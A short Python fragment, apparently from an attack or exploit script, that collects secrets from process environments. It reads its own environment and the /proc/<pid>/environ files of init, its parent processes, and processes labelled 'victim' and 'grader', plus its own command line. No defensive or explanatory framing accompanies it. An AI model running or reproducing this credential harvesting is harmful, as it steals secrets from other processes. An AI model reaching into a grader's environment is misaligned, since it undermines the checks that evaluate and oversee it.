"""Secrets in the environment of this process and of those above it."""

look(repr(dict(os.environ)).encode())
for pid in ("self", "1", str(os.getppid()), str(os.getppid() - 1), str(SITE["victim"]), str(SITE["grader"])):
    take(f"/proc/{pid}/environ")
take("/proc/self/cmdline")
